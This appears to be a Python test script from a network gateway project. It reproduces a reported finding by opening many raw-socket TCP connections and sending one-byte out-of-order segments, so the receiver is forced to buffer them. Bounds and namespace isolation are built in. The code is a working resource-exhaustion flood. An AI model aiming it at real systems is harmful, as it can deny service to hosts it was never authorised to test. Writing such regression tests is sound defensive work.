#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Out-of-order flood (issue 14, finding 1), reusable by any test.

From one address (--src, or the route's), open COUNT TCP connections to HOST:PORT with hand-made
segments (scapy builds them, raw sockets carry them), and on each skip byte
ISN+1 and send SEGMENTS one-byte segments at ISN+2, ISN+3, ... so that the
receiver is asked to hold every one of them out of order. The connections
are then left open for --hold seconds (the receiver keeps whatever it
chose to hold) and finally reset.

Runs inside the test's network namespace, as root. The local kernel knows
nothing of these connections and would answer the gateway's SYN-ACKs and
ACKs with RSTs, so an nftables rule drops outgoing RSTs from the flood's
source ports while the flood runs (removed on exit).

Bounded: COUNT <= 2000, SEGMENTS <= 64, and --timeout seconds in all.
Prints "ooo_flood: N connections, M segments" and exits 0 when at least
--min-open connections were established.
"""
import argparse
import os
import random
import select
import socket
import struct
import subprocess
import sys
import time

from scapy.all import IP, TCP, Raw, raw  # Debian python3-scapy

def nft_table(sport):
    return "sb_ooo_flood_%d" % sport  # one per instance: several may run at once


def nft_drop_rst(sport_lo, sport_hi):
    script = ("table inet %s {\n chain out {\n  type filter hook output priority 0;\n"
              "  tcp sport %d-%d tcp flags & rst == rst drop\n }\n}\n"
              % (nft_table(sport_lo), sport_lo, sport_hi))
    subprocess.run(["nft", "-f", "-"], input=script.encode(), check=True)


def nft_remove(sport):
    subprocess.run(["nft", "delete", "table", "inet", nft_table(sport)],
                   stderr=subprocess.DEVNULL, check=False)


def csum(data):
    """Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data = data + b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def local_addr(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, 9))
    addr = s.getsockname()[0]
    s.close()
    return addr


class Flood:
    def __init__(self, a):
        self.a = a
        self.src = a.src or local_addr(a.host)
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.setblocking(False)
        self.isn = {}      # our port -> our ISN
        self.peer = {}     # our port -> the gateway's ISN, once its SYN-ACK came
        self.sent = 0

    def send(self, sport, seq, ack, flags, payload=b""):
        p = IP(src=self.src, dst=self.a.host) / TCP(
            sport=sport, dport=self.a.port, seq=seq & 0xffffffff, ack=ack & 0xffffffff,
            flags=flags, window=65535)
        if payload:
            p = p / Raw(payload)
        self.tx.sendto(raw(p), (self.a.host, 0))
        self.sent += 1

    def drain(self, wait):
        """Read SYN-ACKs for our ports; returns how many were new."""
        new = 0
        end = time.monotonic() + wait
        while True:
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.rx], [], [], left)[0]:
                return new
            while True:
                try:
                    data = self.rx.recv(2048)
                except BlockingIOError:
                    break
                ip = IP(data)
                if TCP not in ip or ip.src != self.a.host or ip.dst != self.src:
                    continue
                t = ip[TCP]
                if t.sport != self.a.port or t.dport not in self.isn or t.dport in self.peer:
                    continue
                if (int(t.flags) & 0x12) == 0x12 and t.ack == (self.isn[t.dport] + 1) & 0xffffffff:
                    self.peer[t.dport] = t.seq
                    new += 1

    def open_all(self, deadline):
        ports = list(range(self.a.sport, self.a.sport + self.a.count))
        for port in ports:
            self.isn[port] = random.getrandbits(32)
        for attempt in range(3):
            todo = [p for p in ports if p not in self.peer]
            for i in range(0, len(todo), 64):
                for port in todo[i:i + 64]:
                    self.send(port, self.isn[port], 0, "S")
                self.drain(0.02)
                if time.monotonic() > deadline:
                    return
            self.drain(1.0)
            if len(self.peer) == len(ports):
                return

    def send_data(self, port, srv):
        """The one-byte segments at ISN+2, ISN+3, ...: scapy builds the
        first, the rest differ only in sequence number and checksum."""
        isn = self.isn[port]
        first = bytearray(raw(IP(src=self.src, dst=self.a.host) / TCP(
            sport=port, dport=self.a.port, seq=(isn + 2) & 0xffffffff,
            ack=(srv + 1) & 0xffffffff, flags="PA", window=65535) / Raw(b"x")))
        ihl = (first[0] & 15) * 4
        pseudo = first[12:20] + struct.pack("!BBH", 0, 6, len(first) - ihl)
        for k in range(self.a.segments):
            struct.pack_into("!I", first, ihl + 4, (isn + 2 + k) & 0xffffffff)
            struct.pack_into("!H", first, ihl + 16, 0)
            struct.pack_into("!H", first, ihl + 16, csum(pseudo + first[ihl:]))
            self.tx.sendto(bytes(first), (self.a.host, 0))
            self.sent += 1

    def flood(self, deadline):
        for n, (port, srv) in enumerate(self.peer.items()):
            self.send(port, self.isn[port] + 1, srv + 1, "A")
            self.send_data(port, srv)
            if n % 32 == 31:
                self.drain(0)  # keep the receive buffer from overflowing
                if time.monotonic() > deadline:
                    return

    def reset_all(self):
        """Best effort: what is not reset the gateway's teardown frees."""
        for n, (port, srv) in enumerate(self.peer.items()):
            try:
                self.send(port, self.isn[port] + 1, srv + 1, "R")
            except OSError:
                time.sleep(0.01)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="198.18.0.2")
    p.add_argument("--port", type=int, default=7)
    p.add_argument("--src", default="", help="source address (one of the namespace's)")
    p.add_argument("--count", type=int, default=750)
    p.add_argument("--segments", type=int, default=48)
    p.add_argument("--sport", type=int, default=20000,
                   help="first source port (below the kernel's ephemeral range)")
    p.add_argument("--hold", type=float, default=0, help="seconds to keep them open")
    p.add_argument("--hold-file", default="", help="keep them open while this file exists")
    p.add_argument("--min-open", type=int, default=0)
    p.add_argument("--timeout", type=float, default=120)
    a = p.parse_args()
    if not (1 <= a.count <= 2000 and 1 <= a.segments <= 64):
        sys.exit("ooo_flood: --count 1..2000, --segments 1..64")
    deadline = time.monotonic() + a.timeout
    nft_remove(a.sport)
    nft_drop_rst(a.sport, a.sport + a.count - 1)
    f = Flood(a)
    try:
        t0 = time.monotonic()
        f.open_all(deadline)
        f.flood(deadline)
        print("ooo_flood: %d connections, %d segments in %.1f s"
              % (len(f.peer), f.sent, time.monotonic() - t0), flush=True)
        end = min(deadline, time.monotonic() + a.hold)
        while time.monotonic() < end or (a.hold_file and os.path.exists(a.hold_file) and
                                         time.monotonic() < deadline):
            f.drain(0.2)
        f.reset_all()
    finally:
        nft_remove(a.sport)
    if len(f.peer) < a.min_open:
        sys.exit("ooo_flood: only %d of %d connections opened" % (len(f.peer), a.count))


if __name__ == "__main__":
    main()
